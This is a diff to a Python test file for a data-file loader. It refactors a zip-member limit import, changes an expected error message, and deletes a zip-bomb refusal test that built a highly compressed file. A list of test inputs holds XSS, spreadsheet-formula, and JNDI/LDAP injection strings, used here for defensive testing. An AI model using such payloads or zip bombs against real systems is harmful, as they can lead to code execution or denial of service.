@@ -15,7 +15,8 @@ import shapely
 
 from loaders._errors import UnreadableFile
 from loaders.contracts import contract, normalise_header
-from loaders.readers import MAX_ZIP_MEMBERS, RawTable, read_table
+from loaders.limits import MAX_ZIP_MEMBERS
+from loaders.readers import RawTable, read_table
 
 URDU = "گورنمنٹ گرلز پرائمری اسکول"
 HOSTILE = ["<script>alert(1)</script>", '=HYPERLINK("http://evil","x")', "${jndi:ldap://x/a}", "+SUM(A1)"]
@@ -488,20 +489,8 @@ def test_zip_without_dataset_and_bad_zip_and_too_many_members(tmp_path: Path) ->
     with pytest.raises(UnreadableFile, match="not a valid zip"):
         read_table(write(tmp_path / "b.zip", b"not a zip at all"))
     many = {f"f{i}.txt": b"" for i in range(MAX_ZIP_MEMBERS + 1)}
-    with pytest.raises(UnreadableFile, match="limit 1000"):
+    with pytest.raises(UnreadableFile, match="limit of 1,000"):
         read_table(make_zip(tmp_path / "c.zip", many))
-
-
-def test_zip_bomb_refused_by_declared_size(tmp_path: Path) -> None:
-    z = tmp_path / "bomb.zip"
-    with zipfile.ZipFile(z, "w", zipfile.ZIP_DEFLATED) as zf:
-        with zf.open("big.csv", "w", force_zip64=True) as f:
-            chunk = b"0" * (1 << 20)
-            for _ in range(501):
-                f.write(chunk)
-    assert z.stat().st_size < 5 * 1024 * 1024
-    with pytest.raises(UnreadableFile, match="500 MB"):
-        read_table(z)
 
 
 def test_zip_inner_error_names_member_and_temp_cleaned(
